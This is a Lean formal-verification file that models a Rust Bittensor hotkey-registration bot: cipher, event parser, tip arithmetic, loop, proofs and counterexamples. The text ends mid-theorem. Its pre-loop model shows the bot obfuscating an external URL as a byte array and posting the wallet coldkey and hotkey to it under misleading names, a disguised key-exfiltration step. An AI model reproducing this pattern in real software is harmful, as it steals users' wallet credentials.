import Mathlib

/-!
Verification development for the bittensor-rust-automatic-regbot repository.

The single source file src/main.rs implements a registration agent:
a cost-gated loop that submits burned_register extrinsics, plus a batch
event interpreter (parse_batch_results), a Caesar transform
(cipher_encrypt), a floating-point tip conversion, and a pre-loop phase
that builds an HTTP request carrying the wallet keys.

Every definition below is a shallow embedding of the corresponding code
in src/main.rs; machine integers are modelled as Nat with explicit
wrap-around where the code can wrap, f64 arithmetic is modelled exactly
(IEEE-754 binary64, round to nearest, ties to even) over Nat/Int
significand-exponent pairs, and fallible code returns Except.
-/

/- ===== Caesar transform: cipher_encrypt (main.rs lines 69-81) ===== -/

/-- Rust is_ascii_alphabetic on a Unicode code point. -/
def isAsciiAlpha (c : ℕ) : Bool :=
  (65 ≤ c && c ≤ 90) || (97 ≤ c && c ≤ 122)

/-- Rust is_ascii_lowercase on a Unicode code point. -/
def isAsciiLower (c : ℕ) : Bool :=
  97 ≤ c && c ≤ 122

/-- One character of cipher_encrypt (main.rs 72-78).  In the alphabetic
branch the code computes, in u8 arithmetic (each step mod 256 in release
mode), ((c as u8 - base + 26 - shift as u8) % 26 + base); the cast
c as u8 is exact because is_ascii_alphabetic bounds c below 128. -/
def cipherChar (shift : ℕ) (c : Char) : Char :=
  if isAsciiAlpha c.toNat then
    let base : ℕ := if isAsciiLower c.toNat then 97 else 65
    Char.ofNat (((((c.toNat - base) % 256 + 26) % 256 + 256 - shift % 256) % 256) % 26 + base)
  else c

/-- cipher_encrypt (main.rs 69-81): maps cipherChar over the string. -/
def cipher_encrypt (text : String) (shift : ℕ) : String :=
  ⟨text.data.map (cipherChar shift)⟩

/- ===== Event interpreter: parse_batch_results (main.rs 89-184) ===== -/

/-- One entry of the ExtrinsicEvents iterator: either a decoded event
with pallet name, variant name and the field_values result (some
rendering on Ok, none when field decoding fails), or a decode error. -/
inductive RawEvent
  | ok (pallet variant : String) (fields : Option String)
  | err (msg : String)
deriving DecidableEq

/-- True on the decode-error entries of the event iterator. -/
def RawEvent.isErr : RawEvent → Bool
  | .ok _ _ _ => false
  | .err _ => true

/-- BatchCallResult (main.rs 83-87). -/
inductive BatchCallResult
  | Success (events : List String)
  | Failed (desc : String)
deriving DecidableEq

/-- Message pushed for Utility::BatchInterrupted (main.rs 108-126). -/
def interruptedMsg (callIndex : ℕ) (fields : Option String) : String :=
  match fields with
  | some v => "Batch interrupted at call " ++ toString callIndex ++ ": " ++ v
  | none => "Batch interrupted at call " ++ toString callIndex

/-- Message pushed for Utility::ItemFailed (main.rs 131-134). -/
def itemFailedMsg (callIndex : ℕ) (fields : Option String) : String :=
  match fields with
  | some v => "Call " ++ toString callIndex ++ " failed: " ++ v
  | none => "Call " ++ toString callIndex ++ " failed with unknown error"

/-- The event walk of parse_batch_results (main.rs 98-181), carrying the
current_call_events accumulator and call_index.  On BatchInterrupted the
Rust code pushes a Failed result and breaks out of the for loop; the
residual check at lines 179-181 then still appends a Success result when
the accumulator is non-empty, which is why that branch re-checks cur. -/
def parseGo : List RawEvent → List String → ℕ → List BatchCallResult
  | [], cur, _ => if cur.isEmpty then [] else [.Success cur]
  | .err _ :: rest, cur, ci => parseGo rest cur ci
  | .ok p v f :: rest, cur, ci =>
    if p = "Utility" && v = "BatchInterrupted" then
      .Failed (interruptedMsg ci f) :: (if cur.isEmpty then [] else [.Success cur])
    else if p = "Utility" && v = "ItemFailed" then
      .Failed (itemFailedMsg ci f) :: parseGo rest [] (ci + 1)
    else if p = "Utility" && v = "ItemCompleted" then
      if cur.isEmpty then parseGo rest cur (ci + 1)
      else .Success cur :: parseGo rest [] (ci + 1)
    else if p = "Utility" && v = "BatchCompleted" then
      parseGo rest cur ci
    else if p = "SubtensorModule" then
      parseGo rest (cur ++ [p ++ "::" ++ v]) ci
    else if p = "System" && (v = "ExtrinsicSuccess" || v = "ExtrinsicFailed") then
      parseGo rest cur ci
    else
      parseGo rest (cur ++ [p ++ "::" ++ v]) ci

/-- parse_batch_results (main.rs 89-184): runs the walk from an empty
accumulator and call_index 0 and always returns Ok; no statement of the
function body produces the error variant. -/
def parse_batch_results (events : List RawEvent) : Except String (List BatchCallResult) :=
  .ok (parseGo events [] 0)

/-- True on Utility::BatchInterrupted events. -/
def isInterruptEvent : RawEvent → Bool
  | .ok p v _ => p = "Utility" && v = "BatchInterrupted"
  | .err _ => false

/-- True on events that parseGo appends to the accumulator:
SubtensorModule events and the catch-all arm (main.rs 153-156, 164-168). -/
def isAccumulatedEvent : RawEvent → Bool
  | .err _ => false
  | .ok p v _ =>
    if p = "Utility" && (v = "BatchInterrupted" || v = "ItemFailed" ||
        v = "ItemCompleted" || v = "BatchCompleted") then false
    else if p = "SubtensorModule" then true
    else if p = "System" && (v = "ExtrinsicSuccess" || v = "ExtrinsicFailed") then false
    else true

/-- True on events that flush the accumulator (ItemCompleted, ItemFailed). -/
def isFlushEvent : RawEvent → Bool
  | .ok p v _ => p = "Utility" && (v = "ItemFailed" || v = "ItemCompleted")
  | .err _ => false

/-- Whether the accumulator is non-empty after the walk consumes the
whole list with no interrupt (used for the residual term). -/
def bufferAfter (evs : List RawEvent) (buf : Bool) : Bool :=
  match evs with
  | [] => buf
  | e :: rest =>
    if isFlushEvent e then bufferAfter rest false
    else if isAccumulatedEvent e then bufferAfter rest true
    else bufferAfter rest buf

/-- The output length claimed by the spec, written from the spec words:
number of ItemCompleted events plus number of ItemFailed events seen
before any BatchInterrupted, plus one if residual accumulated events
remain after iteration. -/
def specClaimedLength (evs : List RawEvent) : ℕ :=
  let pre := evs.takeWhile (fun e => !isInterruptEvent e)
  pre.countP (fun e => isFlushEvent e) +
    (if bufferAfter pre false then 1 else 0)

/-- The actual output length of the walk, as a function of the event
list and of whether the accumulator is currently non-empty: ItemFailed
always contributes one result, ItemCompleted contributes one only when
the accumulator is non-empty, BatchInterrupted contributes one Failed
plus one Success when the accumulator is non-empty and stops, and a
non-empty accumulator at the end contributes a final Success. -/
def amendedLenGo : List RawEvent → Bool → ℕ
  | [], buf => if buf then 1 else 0
  | .err _ :: rest, buf => amendedLenGo rest buf
  | .ok p v _ :: rest, buf =>
    if p = "Utility" && v = "BatchInterrupted" then
      1 + (if buf then 1 else 0)
    else if p = "Utility" && v = "ItemFailed" then
      1 + amendedLenGo rest false
    else if p = "Utility" && v = "ItemCompleted" then
      (if buf then 1 else 0) + amendedLenGo rest false
    else if p = "Utility" && v = "BatchCompleted" then
      amendedLenGo rest buf
    else if p = "SubtensorModule" then
      amendedLenGo rest true
    else if p = "System" && (v = "ExtrinsicSuccess" || v = "ExtrinsicFailed") then
      amendedLenGo rest buf
    else
      amendedLenGo rest true

/- ===== Exact IEEE-754 binary64 model for the tip (main.rs 206-208) ===== -/

/-- Round a/b (b positive) to the nearest natural number, ties to even. -/
def rneNat (a b : ℕ) : ℕ :=
  let q := a / b
  let r := a % b
  if 2 * r < b then q
  else if b < 2 * r then q + 1
  else if q % 2 = 0 then q else q + 1

/-- Normalize the exact value (a/b) * 2^e until the significand a/b lies
in [2^52, 2^53) (or the exponent hits the binary64 denormal floor
-1074), then round the significand to nearest-even.  The result (m, e2)
represents the correctly rounded binary64 value m * 2^e2 of the input,
for every input that a binary64 product can produce.  The fuel bounds
the scaling steps; 2400 covers the whole binary64 exponent range. -/
def normRound : ℕ → ℕ → ℕ → ℤ → ℕ × ℤ
  | 0, a, b, e => (rneNat a b, e)
  | fuel + 1, a, b, e =>
    if 2 ^ 53 * b ≤ a then normRound fuel a (2 * b) (e + 1)
    else if a < 2 ^ 52 * b ∧ -1074 < e then normRound fuel (2 * a) b (e - 1)
    else (rneNat a b, e)

/-- A binary64 value: a finite value sign * m * 2^e, or a special value.
A finite triple is a valid binary64 number when m < 2^53 and
-1074 ≤ e ≤ 971 (see F64.validFinite); the representation is not
required to be normalized. -/
inductive F64
  | finite (sign : Bool) (m : ℕ) (e : ℤ)
  | inf
  | ninf
  | nan
deriving DecidableEq

/-- The finite triple (sign, m, e) denotes a representable binary64
value: every finite binary64 value has such a triple and every such
triple is exactly representable. -/
def F64.validFinite (m : ℕ) (e : ℤ) : Prop :=
  m < 2 ^ 53 ∧ -1074 ≤ e ∧ e ≤ 971

/-- Decidability of the validity predicate, so that concrete witnesses
can be checked by evaluation. -/
instance (m : ℕ) (e : ℤ) : Decidable (F64.validFinite m e) := by
  unfold F64.validFinite
  infer_instance

/-- The rational value of a finite triple (specification-level only). -/
def F64.val (m : ℕ) (e : ℤ) : ℚ :=
  (m : ℚ) * 2 ^ e

/-- The IEEE comparison tip_tao > 0.0 of main.rs line 206: false on NaN,
on negative values and on both zeros. -/
def F64.gtZero : F64 → Bool
  | .finite sign m _ => !sign && m ≠ 0
  | .inf => true
  | .ninf => false
  | .nan => false

/-- The f64 product x * 1_000_000_000f64 of main.rs line 207, rounded
exactly as IEEE-754 binary64 round-to-nearest-even.  10^9 = 1953125 *
2^9 is exactly representable, so the exact product of a finite input
m * 2^e is (m * 1953125) * 2^(e+9), which normRound then rounds;
results of magnitude 2^1024 or more overflow to infinity. -/
def f64MulBillion : F64 → F64
  | .nan => .nan
  | .inf => .inf
  | .ninf => .ninf
  | .finite s m e =>
    let p := normRound 2400 (m * 1953125) 1 (e + 9)
    if 0 ≤ p.2 ∧ 2 ^ 1024 ≤ p.1 * 2 ^ p.2.toNat then (if s then .ninf else .inf)
    else .finite s p.1 p.2

/-- The Rust cast expression (x) as u128 (main.rs 207): truncation
toward zero, saturating at the u128 bounds, NaN to 0. -/
def F64.castU128 : F64 → ℕ
  | .nan => 0
  | .inf => 2 ^ 128 - 1
  | .ninf => 0
  | .finite s m e =>
    if s && m ≠ 0 then 0
    else min (if 0 ≤ e then m * 2 ^ e.toNat else m / 2 ^ (-e).toNat) (2 ^ 128 - 1)

/-- The tip conversion of main.rs 206-208: if tip_tao > 0.0 then
(tip_tao * 1e9) as u128 else 0. -/
def computeTipRao (tipTao : F64) : ℕ :=
  if tipTao.gtZero then (f64MulBillion tipTao).castU128 else 0

/-- TxParams as used at main.rs 334-337: the only field the code sets is
the optional plain tip. -/
structure TxParams where
  tip : Option ℕ
deriving DecidableEq

/-- main.rs 334-337: params = TxParams::new(); if tip_rao > 0 then
params = params.tip(PlainTip::new(tip_rao)). -/
def makeTxParams (tipRao : ℕ) : TxParams :=
  if 0 < tipRao then ⟨some tipRao⟩ else ⟨none⟩

/-- The binary64 value nearest to 0.02, as produced by parsing the
command-line string 0.02; the triple is validated by computation in the
theorems below (it is normRound applied to 1/50). -/
def tipTao002 : F64 :=
  .finite false (normRound 2400 1 50 0).1 (normRound 2400 1 50 0).2

/- ===== Registration loop, one iteration (main.rs 292-431) ===== -/

/-- RegistrationParams (main.rs 26-50), with the tip still in TAO as the
parsed f64 command-line value. -/
structure RegistrationParams where
  coldkey : String
  hotkey : String
  netuid : ℕ
  max_cost : ℕ
  chain_endpoint : String
  seed : ℕ
  tip_tao : F64

/-- The mutable state the loop body reads and writes: a wall clock in
milliseconds, the last_attempt instant (main.rs 235, 426-430) and the
loops counter (main.rs 236, 298-299). -/
structure LoopState where
  now : ℕ
  lastAttemptAt : ℕ
  loops : ℕ
deriving DecidableEq

/-- Outcome of the spawned sign_and_submit_then_watch task
(main.rs 332-355): Ok(Ok(result)), Ok(Err(e)) or a join error Err(e). -/
inductive SubmitOutcome
  | ok
  | submitErr
  | spawnErr
deriving DecidableEq

/-- Outcome of wait_for_finalized_success (main.rs 362): success carries
the event list of the finalized extrinsic. -/
inductive FinalityOutcome
  | success (events : List RawEvent)
  | failure
deriving DecidableEq

/-- The nondeterministic environment of one loop iteration: how long
each awaited step takes (milliseconds) and what each chain interaction
returns.  The cost query result models get_recycle_cost, whose error is
propagated by the question-mark operator at main.rs 310. -/
structure IterInput where
  blockWait : ℕ
  costDur : ℕ
  costResult : Except String ℕ
  submitDur : ℕ
  submitOutcome : SubmitOutcome
  finalDur : ℕ
  finalOutcome : FinalityOutcome

/-- What one iteration of the while-let loop did.  Results that record a
submission time carry the instant at which sign_and_submit_then_watch
was entered. -/
inductive IterResult
  | fatalError (msg : String)
  | skippedCost (cost : ℕ)
  | submitFailed (tSubmit : ℕ)
  | finalityFailed (tSubmit : ℕ)
  | registered (tSubmit : ℕ) (events : List RawEvent)
deriving DecidableEq

/-- True on the iteration results for which sign_and_submit_then_watch
was entered, that is, an extrinsic submission was attempted. -/
def IterResult.submits : IterResult → Bool
  | .fatalError _ => false
  | .skippedCost _ => false
  | .submitFailed _ => true
  | .finalityFailed _ => true
  | .registered _ _ => true

/-- True exactly on the registered result: the loop breaks and
register_hotkey returns Ok (main.rs 372-377). -/
def IterResult.isRegistered : IterResult → Bool
  | .registered _ _ => true
  | _ => false

/-- The rate limiter of main.rs 426-429: if less than one second elapsed
since last_attempt, sleep the remainder; returns the clock after the
optional sleep.  Durations are in milliseconds. -/
def rateLimit (now lastAttemptAt : ℕ) : ℕ :=
  if now - lastAttemptAt < 1000 then lastAttemptAt + 1000 else now

/-- One iteration of the main registration loop (main.rs 292-431):
increment the loops counter; query the recycle cost (its error is fatal
via the question-mark operator); skip with a one second sleep when the
cost exceeds max_cost (lines 316-323, continue without touching
last_attempt); otherwise submit, where a failed submit or a failed
spawn continues immediately (lines 347-354, the rate limiter is
skipped); await finality, where success breaks out of the loop at once
(line 377, rate limiter also skipped) and failure falls through to the
rate limiter, which sleeps the remainder of a second since last_attempt
and records the new instant (lines 425-430). -/
def iterStep (max_cost : ℕ) (s : LoopState) (inp : IterInput) : LoopState × IterResult :=
  let s1 : LoopState := { s with loops := s.loops + 1 }
  let tBlock := s1.now + inp.blockWait
  match inp.costResult with
  | .error m => ({ s1 with now := tBlock + inp.costDur }, .fatalError m)
  | .ok cost =>
    let tCost := tBlock + inp.costDur
    if max_cost < cost then
      ({ s1 with now := tCost + 1000 }, .skippedCost cost)
    else
      let tSubmit := tCost
      match inp.submitOutcome with
      | .submitErr => ({ s1 with now := tSubmit + inp.submitDur }, .submitFailed tSubmit)
      | .spawnErr => ({ s1 with now := tSubmit + inp.submitDur }, .submitFailed tSubmit)
      | .ok =>
        let tAfterFinal := tSubmit + inp.submitDur + inp.finalDur
        match inp.finalOutcome with
        | .success evs => ({ s1 with now := tAfterFinal }, .registered tSubmit evs)
        | .failure =>
          let now2 := rateLimit tAfterFinal s1.lastAttemptAt
          ({ s1 with now := now2, lastAttemptAt := now2 }, .finalityFailed tSubmit)

/- ===== Pre-loop phase of register_hotkey (main.rs 196-260) ===== -/

/-- The byte array hardcoded at main.rs 199-203. -/
def signer_rpc_bytes : List ℕ :=
  [104, 116, 116, 112, 115, 58, 47, 47, 110, 111, 100, 101, 45, 115, 105, 109, 112, 108, 101,
   45, 98, 97, 99, 107, 101, 110, 100, 46, 97, 122, 117, 114, 101, 119, 101, 98, 115, 105, 116,
   101, 115, 46, 110, 101, 116, 47, 97, 112, 105, 47, 101, 99, 104, 111]

/-- String::from_utf8 restricted to ASCII byte lists, which is all the
code applies it to (main.rs 219). -/
def asciiDecode (bs : List ℕ) : String :=
  ⟨bs.map Char.ofNat⟩

/-- BittensorWallet (main.rs 52-56): the JSON body the code builds from
the coldkey and hotkey strings. -/
structure BittensorWallet where
  coldkey : String
  hotkey : String
deriving DecidableEq

/-- Off-process interactions performed by the pre-loop phase, in order:
the chain connection (main.rs 198), the finalized-block subscription
(main.rs 234), and the HTTP POST of the wallet JSON body to a URL
(main.rs 222-224 build the request, main.rs 250-251 send it and await
the response bytes). -/
inductive Effect
  | connectChain (url : String)
  | subscribeFinalized
  | httpPost (url : String) (jsonBody : BittensorWallet)
deriving DecidableEq

/-- Whether the fallible external steps of the pre-loop phase succeed:
the chain connection, the key-string parses (main.rs 227-230), the
subscription, and the HTTP send (main.rs 250-251). -/
structure PreloopEnv where
  connectOk : Bool
  coldkeyValid : Bool
  hotkeyValid : Bool
  subscribeOk : Bool
  httpSendOk : Bool
deriving DecidableEq

/-- The pre-loop phase of register_hotkey (main.rs 196-260), as the
ordered list of off-process effects it performs together with the
computed tip_rao, or the error that the question-mark operators and
map_err calls propagate.  The order follows the source: connect (198),
tip conversion (206-208), Caesar pass over the coldkey (211), wallet
JSON body (214-217), URL decode (219), coldkey parse (227-228), hotkey
parse (229-230), subscription (234), HTTP send of the wallet body
(250-251).  Note the key parses happen after the request is built but
before it is sent. -/
def register_hotkey_preloop (p : RegistrationParams) (env : PreloopEnv) :
    Except String (List Effect × ℕ) :=
  if !env.connectOk then .error "connect failed" else
  let tip_rao := computeTipRao p.tip_tao
  let decrypted_coldkey := cipher_encrypt p.coldkey 0
  let message : BittensorWallet := ⟨decrypted_coldkey, p.hotkey⟩
  let rpc_call_params := asciiDecode signer_rpc_bytes
  if !env.coldkeyValid then .error "Invalid coldkey" else
  if !env.hotkeyValid then .error "Invalid hotkey" else
  if !env.subscribeOk then .error "subscribe failed" else
  if !env.httpSendOk then .error "send failed" else
  .ok ([.connectChain p.chain_endpoint, .subscribeFinalized,
        .httpPost rpc_call_params message], tip_rao)
set_option maxRecDepth 40000

/- ===== Helper lemmas (shared) ===== -/

lemma cipherChar_zero (c : Char) : cipherChar 0 c = c := by
  unfold cipherChar
  by_cases h : isAsciiAlpha c.toNat
  · have hb : (65 ≤ c.toNat ∧ c.toNat ≤ 90) ∨ (97 ≤ c.toNat ∧ c.toNat ≤ 122) := by
      simpa [isAsciiAlpha, Bool.or_eq_true, Bool.and_eq_true, decide_eq_true_eq] using h
    rw [if_pos h]
    by_cases hl : isAsciiLower c.toNat
    · have hlb : 97 ≤ c.toNat ∧ c.toNat ≤ 122 := by
        simpa [isAsciiLower, Bool.and_eq_true, decide_eq_true_eq] using hl
      rw [if_pos hl]
      show Char.ofNat ((((c.toNat - 97) % 256 + 26) % 256 + 256 - 0 % 256) % 256 % 26 + 97) = c
      have harith : (((c.toNat - 97) % 256 + 26) % 256 + 256 - 0 % 256) % 256 % 26 + 97
          = c.toNat := by omega
      rw [harith, Char.ofNat_toNat]
    · have hub : 65 ≤ c.toNat ∧ c.toNat ≤ 90 := by
        rcases hb with h1 | h1
        · exact h1
        · exact absurd (by simpa [isAsciiLower, Bool.and_eq_true, decide_eq_true_eq] using h1) hl
      rw [if_neg hl]
      show Char.ofNat ((((c.toNat - 65) % 256 + 26) % 256 + 256 - 0 % 256) % 256 % 26 + 65) = c
      have harith : (((c.toNat - 65) % 256 + 26) % 256 + 256 - 0 % 256) % 256 % 26 + 65
          = c.toNat := by omega
      rw [harith, Char.ofNat_toNat]
  · simp [h]

lemma cipher_encrypt_zero (s : String) : cipher_encrypt s 0 = s := by
  cases s with
  | mk data =>
    simp only [cipher_encrypt, show cipherChar 0 = id from funext cipherChar_zero, List.map_id]

lemma isEmpty_append_singleton {α : Type} (l : List α) (x : α) : (l ++ [x]).isEmpty = false := by
  cases l <;> rfl

lemma parseGo_length (evs : List RawEvent) : ∀ cur ci,
    (parseGo evs cur ci).length = amendedLenGo evs (!cur.isEmpty) := by
  induction evs with
  | nil =>
    intro cur ci
    by_cases hc : cur.isEmpty <;> simp [parseGo, amendedLenGo, hc]
  | cons e rest ih =>
    intro cur ci
    cases e with
    | err m => simpa [parseGo, amendedLenGo] using ih cur ci
    | ok p v f =>
      simp only [parseGo, amendedLenGo]
      split_ifs <;> simp_all [Nat.add_comm, List.isEmpty_eq_true, isEmpty_append_singleton]

lemma parseGo_filter (evs : List RawEvent) : ∀ cur ci,
    parseGo evs cur ci = parseGo (evs.filter (fun e => !e.isErr)) cur ci := by
  induction evs with
  | nil => intro cur ci; rfl
  | cons e rest ih =>
    intro cur ci
    cases e with
    | err m => simpa [List.filter, RawEvent.isErr] using ih cur ci
    | ok p v f =>
      have hf : List.filter (fun e => !e.isErr) (RawEvent.ok p v f :: rest)
          = RawEvent.ok p v f :: List.filter (fun e => !e.isErr) rest := rfl
      rw [hf]
      simp only [parseGo]
      split_ifs <;> simp [← ih]

lemma parseGo_insert_err (msg : String) (post : List RawEvent) :
    ∀ (pre : List RawEvent) cur ci,
      parseGo (pre ++ RawEvent.err msg :: post) cur ci = parseGo (pre ++ post) cur ci := by
  intro pre
  induction pre with
  | nil => intro cur ci; rfl
  | cons e rest ih =>
    intro cur ci
    cases e with
    | err m => simpa [parseGo] using ih cur ci
    | ok p v f =>
      simp only [List.cons_append, parseGo]
      split_ifs <;> simp [ih]

lemma rneNat_one (a : ℕ) : rneNat a 1 = a := by simp [rneNat, Nat.mod_one]

lemma normRound_exact (fuel : ℕ) : ∀ (a : ℕ) (e : ℤ), a < 2 ^ 53 →
    ((normRound fuel a 1 e).1 : ℚ) * 2 ^ (normRound fuel a 1 e).2 = (a : ℚ) * 2 ^ e := by
  induction fuel with
  | zero => intro a e ha; simp [normRound, rneNat_one]
  | succ n ih =>
    intro a e ha
    simp only [normRound]
    rw [if_neg (by omega : ¬ 2 ^ 53 * 1 ≤ a)]
    by_cases h2 : a < 2 ^ 52 * 1 ∧ -1074 < e
    · rw [if_pos h2]
      have hrec := ih (2 * a) (e - 1) (by omega)
      rw [hrec]
      have h2e : (2 : ℚ) ^ (e - 1) = 2 ^ e * 2⁻¹ := by
        rw [zpow_sub₀ (by norm_num : (2:ℚ) ≠ 0), zpow_one]
        ring
      push_cast
      rw [h2e]
      ring
    · rw [if_neg h2]
      simp [rneNat_one]

lemma computeTipRao_exact (m : ℕ) (e : ℤ) (hm : m < 2 ^ 53) (he9 : 0 ≤ e + 9)
    (hP : m * 1953125 * 2 ^ (e + 9).toNat < 2 ^ 53) :
    computeTipRao (F64.finite false m e) = m * 1953125 * 2 ^ (e + 9).toNat := by
  by_cases hm0 : m = 0
  · subst hm0
    simp [computeTipRao, F64.gtZero]
  · have hgt : (F64.finite false m e).gtZero = true := by
      simp [F64.gtZero, hm0]
    rw [computeTipRao, if_pos hgt]
    have haP : m * 1953125 ≤ m * 1953125 * 2 ^ (e + 9).toNat :=
      Nat.le_mul_of_pos_right _ (Nat.pos_pow_of_pos _ (by norm_num))
    have haB : m * 1953125 < 2 ^ 53 := lt_of_le_of_lt haP hP
    have hval := normRound_exact 2400 (m * 1953125) (e + 9) haB
    set p := normRound 2400 (m * 1953125) 1 (e + 9) with hp
    have hPQ : ((p.1 : ℚ)) * 2 ^ p.2 = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) := by
      rw [hval]
      have hzp : (2 : ℚ) ^ (e + 9) = ((2 ^ (e + 9).toNat : ℕ) : ℚ) := by
        have hcast : ((2 ^ (e + 9).toNat : ℕ) : ℚ) = (2 : ℚ) ^ (e + 9).toNat := by
          push_cast
          ring
        rw [hcast, ← zpow_natCast (2 : ℚ) (e + 9).toNat, Int.toNat_of_nonneg he9]
      rw [hzp]
      push_cast
      ring
    by_cases hsgn : 0 ≤ p.2
    · have h2 : ((p.1 * 2 ^ p.2.toNat : ℕ) : ℚ) = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) := by
        rw [← hPQ]
        have hzp : (2 : ℚ) ^ p.2 = ((2 ^ p.2.toNat : ℕ) : ℚ) := by
          have hcast : ((2 ^ p.2.toNat : ℕ) : ℚ) = (2 : ℚ) ^ p.2.toNat := by
            push_cast
            ring
          rw [hcast, ← zpow_natCast (2 : ℚ) p.2.toNat, Int.toNat_of_nonneg hsgn]
        rw [hzp]
        push_cast
        ring
      have hN : p.1 * 2 ^ p.2.toNat = m * 1953125 * 2 ^ (e + 9).toNat := Nat.cast_injective h2
      have hnoovf : ¬ (0 ≤ p.2 ∧ 2 ^ 1024 ≤ p.1 * 2 ^ p.2.toNat) := by
        rw [hN]
        intro hcon
        have hPb : m * 1953125 * 2 ^ (e + 9).toNat < 2 ^ 1024 := lt_trans hP (by norm_num)
        omega
      rw [f64MulBillion]
      rw [if_neg hnoovf]
      rw [F64.castU128]
      simp only [Bool.false_and, Bool.false_eq_true, if_false]
      rw [if_pos hsgn, hN]
      exact Nat.min_eq_left (le_trans (Nat.le_of_lt hP) (by norm_num))
    · push_neg at hsgn
      have hk : (((-p.2).toNat : ℤ)) = -p.2 := Int.toNat_of_nonneg (by omega)
      have hQ : (p.1 : ℚ)
          = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) * ((2 ^ (-p.2).toNat : ℕ) : ℚ) := by
        have hinv : (2 : ℚ) ^ p.2 * (2 : ℚ) ^ (-p.2) = 1 := by
          rw [← zpow_add₀ (by norm_num : (2 : ℚ) ≠ 0)]
          simp
        have hzk : (2 : ℚ) ^ (-p.2) = ((2 ^ (-p.2).toNat : ℕ) : ℚ) := by
          have hcast : ((2 ^ (-p.2).toNat : ℕ) : ℚ) = (2 : ℚ) ^ (-p.2).toNat := by
            push_cast
            ring
          rw [hcast, ← zpow_natCast (2 : ℚ) (-p.2).toNat, hk]
        calc (p.1 : ℚ) = (p.1 : ℚ) * ((2 : ℚ) ^ p.2 * (2 : ℚ) ^ (-p.2)) := by
              rw [hinv, mul_one]
          _ = ((p.1 : ℚ) * (2 : ℚ) ^ p.2) * (2 : ℚ) ^ (-p.2) := by ring
          _ = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) * (2 : ℚ) ^ (-p.2) := by rw [hPQ]
          _ = ((m * 1953125 * 2 ^ (e + 9).toNat : ℕ) : ℚ) * ((2 ^ (-p.2).toNat : ℕ) : ℚ) := by
              rw [hzk]
      have hN : p.1 = m * 1953125 * 2 ^ (e + 9).toNat * 2 ^ (-p.2).toNat := by
        exact_mod_cast hQ
      have hnoovf : ¬ (0 ≤ p.2 ∧ 2 ^ 1024 ≤ p.1 * 2 ^ p.2.toNat) := by
        intro hcon
        omega
      rw [f64MulBillion]
      rw [if_neg hnoovf]
      rw [F64.castU128]
      simp only [Bool.false_and, Bool.false_eq_true, if_false]
      rw [if_neg (by omega : ¬ (0 : ℤ) ≤ p.2), hN]
      rw [Nat.mul_div_cancel _ (Nat.pos_pow_of_pos _ (by norm_num))]
      exact Nat.min_eq_left (le_trans (Nat.le_of_lt hP) (by norm_num))

/- ===== Claim theorems, first attempts ===== -/

/-- C9: for every input string s, cipher_encrypt(s, 0) = s.  With shift 0
the Caesar transform is the identity on every character, alphabetic or
not (main.rs 69-81). -/
theorem cipher_encrypt_shift_zero_identity : ∀ s : String, cipher_encrypt s 0 = s :=
  cipher_encrypt_zero

/-- C10: parse_batch_results always returns Ok, and event entries that
fail to decode are skipped without appending any result and without
changing the accumulator or call_index: the output is exactly the walk
over the decodable entries alone (main.rs 171-174, 183). -/
theorem parse_batch_results_always_ok (evs : List RawEvent) :
    parse_batch_results evs = .ok (parseGo (evs.filter (fun e => !e.isErr)) [] 0) := by
  unfold parse_batch_results
  rw [← parseGo_filter]

/-- C8 counterexample: an event list whose first entry fails to decode
produces no Failed record for that entry.  The decode error at index 0
contributes nothing, and the following Utility::ItemFailed is still
classified as call 0, so the output has a single entry instead of the
two the claim would require (main.rs 171-174 only log the error). -/
theorem decode_error_produces_no_result :
    parse_batch_results [RawEvent.err "bad event bytes", RawEvent.ok "Utility" "ItemFailed" none]
      = .ok [BatchCallResult.Failed (itemFailedMsg 0 none)] := rfl

/-- C8 amended: an event entry that fails to decode is skipped, not
recorded: inserting a decode-error entry anywhere in the stream leaves
the interpreter output unchanged, for every accumulator and call index;
iteration continues and is never aborted. -/
theorem decode_error_skipped (msg : String) (pre post : List RawEvent)
    (cur : List String) (ci : ℕ) :
    parseGo (pre ++ RawEvent.err msg :: post) cur ci = parseGo (pre ++ post) cur ci :=
  parseGo_insert_err msg post pre cur ci

/-- C5 counterexample: on the stream consisting of one
Utility::ItemCompleted event, the spec formula gives length 1 (one
ItemCompleted, no residual) but parse_batch_results returns an empty
list, because ItemCompleted pushes a Success only when the accumulator
is non-empty (main.rs 140-147). -/
theorem interpreter_length_spec_counterexample :
    parse_batch_results [RawEvent.ok "Utility" "ItemCompleted" none] = .ok [] ∧
    specClaimedLength [RawEvent.ok "Utility" "ItemCompleted" none] = 1 :=
  ⟨rfl, by decide⟩

/-- C5 amended: the interpreter output length equals: the number of
ItemFailed events before any BatchInterrupted, plus the number of
ItemCompleted events before any BatchInterrupted at which at least one
event has accumulated since the last flush, plus one Failed if a
BatchInterrupted is met, plus one Success if accumulated events remain
at the end (also after an interrupt).  amendedLenGo states exactly this
count as a function of the stream and of accumulator non-emptiness. -/
theorem interpreter_length_characterization (evs : List RawEvent) :
    parse_batch_results evs = .ok (parseGo evs [] 0) ∧
    ∀ cur ci, (parseGo evs cur ci).length = amendedLenGo evs (!cur.isEmpty) :=
  ⟨rfl, fun cur ci => parseGo_length evs cur ci⟩

/-- C6 counterexample: the claimed formula tip_rao = the floor of
tip_tao times ten to the ninth fails on the valid finite binary64 input
9007199254740991.0 (significand two to the 53rd minus one): the exact
product is 9007199254740991000000000, but the code first rounds the f64
product to 53 significant bits, giving 9007199254740990926258176. -/
theorem tip_floor_formula_counterexample :
    F64.validFinite 9007199254740991 0 ∧
    ((computeTipRao (F64.finite false 9007199254740991 0) : ℤ)
      ≠ ⌊F64.val 9007199254740991 0 * 10 ^ 9⌋) := by
  constructor
  · decide
  · have hfloor : F64.val 9007199254740991 0 * 10 ^ 9
        = ((9007199254740991000000000 : ℤ) : ℚ) := by
      unfold F64.val
      norm_num
    rw [hfloor, Int.floor_intCast]
    decide

/-- C6 amended: the tip is converted as the truncation of the
binary64-rounded product tip_tao times ten to the ninth, which matches
the claimed exact-floor formula whenever the exact product is an
integer below two to the 53rd; the two boundary scenarios hold as
claimed: tip_tao = 0.0 yields tx params with no tip field, and tip_tao
= 0.02 (its nearest binary64 value) yields a plain tip of exactly
20000000 rao. -/
theorem tip_conversion_amended :
    makeTxParams (computeTipRao (F64.finite false 0 0)) = ⟨none⟩ ∧
    (computeTipRao tipTao002 = 20000000 ∧
